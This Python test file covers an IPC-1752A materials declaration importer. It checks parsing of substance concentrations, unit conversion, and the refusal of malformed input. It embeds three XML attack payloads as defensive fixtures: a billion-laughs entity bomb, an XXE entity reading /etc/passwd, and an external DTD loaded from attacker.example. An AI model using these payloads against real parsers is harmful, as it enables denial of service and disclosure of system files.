"""IPC-1752A import: substance-level content read, malformed and hostile XML refused."""
from datetime import date
from decimal import Decimal

import pytest
from qms_shared.domain import ValidationFailed

from compliance.adapters.ipc1752a import parse_ipc1752a
from compliance.domain.product import parse_materials

NS = "http://webstds.ipc.org/175x/2.0"
DECLARATION = f"""<?xml version="1.0" encoding="UTF-8"?>
<MainDeclaration xmlns="{NS}" version="2.0">
  <BusinessInfo><Response responseDate="2026-02-14T08:00:00Z"/></BusinessInfo>
  <Product>
    <ProductID itemNumber="RES-0402" itemName="Chip resistor"/>
    <MaterialInfo><HomogeneousMaterialList>
      <HomogeneousMaterial name="Termination">
        <Amount value="2" UOM="mg"/>
        <SubstanceCategoryList><SubstanceCategory name="Metals">
          <Substance name="Lead"><SubstanceID identity="7439-92-1" authority="CAS"/>
            <Amount value="0.0008" UOM="mg"/></Substance>
          <Substance name="Tin"><SubstanceID identity="7440-31-5" authority="CAS"/>
            <Amount value="1.9" UOM="mg"/></Substance>
        </SubstanceCategory></SubstanceCategoryList>
        <ExemptionList><Exemption identity="7(c)-I"/></ExemptionList>
      </HomogeneousMaterial>
      <HomogeneousMaterial name="Body">
        <Substance name="Cadmium"><SubstanceID identity="7440-43-9" authority="CAS"/>
          <Amount value="0.005" UOM="%"/></Substance>
        <Substance name="Mercury"><SubstanceID identity="7439-97-6" authority="CAS"/></Substance>
      </HomogeneousMaterial>
    </HomogeneousMaterialList></MaterialInfo>
  </Product>
</MainDeclaration>"""


def test_the_substance_level_content_is_read():
    parsed = parse_ipc1752a(DECLARATION.encode())
    assert (parsed.product_code, parsed.product_name, parsed.declaration_date) == (
        "RES-0402", "Chip resistor", date(2026, 2, 14))
    termination, body = parsed.materials
    assert termination["name"] == "Termination" and termination["exemptions"] == ["7(c)-I"]
    lead, tin = termination["substances"]
    # 0.0008 mg of lead in 2 mg of material = 400 ppm
    assert (lead["cas"], lead["concentration"], lead["unit"]) == ("7439-92-1", Decimal("400"), "ppm")
    assert tin["concentration"] == Decimal("950000")
    cadmium, mercury = body["substances"]
    assert (cadmium["concentration"], cadmium["unit"]) == (Decimal("0.005"), "percent")
    assert (mercury["concentration"], mercury["unit"]) == (None, None)


def test_the_parsed_materials_pass_the_domains_validation():
    materials = parse_materials(parse_ipc1752a(DECLARATION).materials)
    assert [s.value_ppm for s in materials[0].substances] == [400.0, 950000.0]
    assert [s.value_ppm for s in materials[1].substances] == [50.0, None]


def test_a_file_without_namespace_reads_the_same():
    plain = DECLARATION.replace(f' xmlns="{NS}"', "")
    assert parse_ipc1752a(plain).materials == parse_ipc1752a(DECLARATION).materials


def test_an_unknown_unit_is_left_for_the_domain_to_refuse_with_a_path():
    xml = DECLARATION.replace('value="0.005" UOM="%"', 'value="5" UOM="ppb"')
    with pytest.raises(ValidationFailed) as caught:
        parse_materials(parse_ipc1752a(xml).materials)
    assert "materials[1].substances[0].concentration" in caught.value.extra["errors"]


def test_a_negative_amount_is_refused():
    xml = DECLARATION.replace('value="0.005" UOM="%"', 'value="-0.005" UOM="%"')
    assert "must lie between 0 and 1,000,000,000" in file_error(xml)


def file_error(data) -> str:
    with pytest.raises(ValidationFailed) as caught:
        parse_ipc1752a(data)
    return caught.value.extra["errors"]["file"][0]


BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>
<MainDeclaration><Product><ProductID itemNumber="&lol3;"/></Product></MainDeclaration>"""
EXTERNAL_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<MainDeclaration><Product><ProductID itemNumber="&xxe;"/></Product></MainDeclaration>"""
EXTERNAL_DTD = """<?xml version="1.0"?>
<!DOCTYPE MainDeclaration SYSTEM "http://attacker.example/evil.dtd">
<MainDeclaration/>"""


@pytest.mark.parametrize("hostile", [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD])
def test_entity_expansion_external_entities_and_dtds_are_refused(hostile):
    assert file_error(hostile).startswith("refused")


@pytest.mark.parametrize("data, message", [
    (b"<MainDeclaration><Product>", "not well-formed"),
    (b"", "not well-formed"),
    (b"\xff\xfe garbage", "not well-formed"),
    (b"<Invoice/>", "root element must be MainDeclaration"),
    (b"<MainDeclaration><Product/></MainDeclaration>", "no homogeneous material"),
])
def test_malformed_or_foreign_documents_are_refused(data, message):
    assert message in file_error(data)


@pytest.mark.parametrize("replacement, message", [
    ('value="abc" UOM="%"', "not a finite number"),
    ('value="NaN" UOM="%"', "not a finite number"),
    ('value="Infinity" UOM="%"', "not a finite number"),
])
def test_non_numeric_amounts_are_refused(replacement, message):
    assert message in file_error(DECLARATION.replace('value="0.005" UOM="%"', replacement))


CADMIUM_LINE = next(n for n, line in enumerate(DECLARATION.splitlines(), 1) if 'value="0.005"' in line)


@pytest.mark.parametrize("replacement, message", [
    ('value="1e999999999" UOM="%"', "must lie between 0 and 1,000,000,000"),  # would overflow Decimal's context
    ('value="1000000001" UOM="ppm"', "must lie between 0 and 1,000,000,000"),
    ('value="1e-999999" UOM="mg"', "at most 12 decimal places"),  # a mass ratio by it would overflow as well
    ('value="' + "9" * 101 + '" UOM="%"', "not a finite number"),
])
def test_an_amount_out_of_bounds_is_a_422_naming_the_element_and_its_line(replacement, message):
    error = file_error(DECLARATION.replace('value="0.005" UOM="%"', replacement))
    assert error.startswith(f"line {CADMIUM_LINE}, <Amount value=") and message in error
    assert "Body: amount of 7440-43-9" in error


def test_a_material_mass_out_of_bounds_names_its_line_too():
    line = next(n for n, text in enumerate(DECLARATION.splitlines(), 1) if 'value="2" UOM="mg"' in text)
    error = file_error(DECLARATION.replace('<Amount value="2" UOM="mg"/>', '<Amount value="1e999999999" UOM="kg"/>'))
    assert error.startswith(f"line {line}, <Amount") and "Termination: material amount" in error


@pytest.mark.parametrize("day", ["9999-12-31", "0218-01-01", "2026-02-30"])
def test_a_response_date_outside_1900_to_2999_or_not_a_date_is_refused(day):
    assert "responseDate is not a date between 1900-01-01 and 2999-12-31" in file_error(
        DECLARATION.replace("2026-02-14T08:00:00Z", day))


def test_a_substance_mass_without_the_materials_mass_is_refused():
    xml = DECLARATION.replace('<Amount value="2" UOM="mg"/>', "")
    assert "needs the material's mass" in file_error(xml)


def test_an_oversized_file_is_refused_before_parsing():
    assert "larger than" in file_error(b"<MainDeclaration>" + b" " * (5 * 1024 * 1024) + b"</MainDeclaration>")
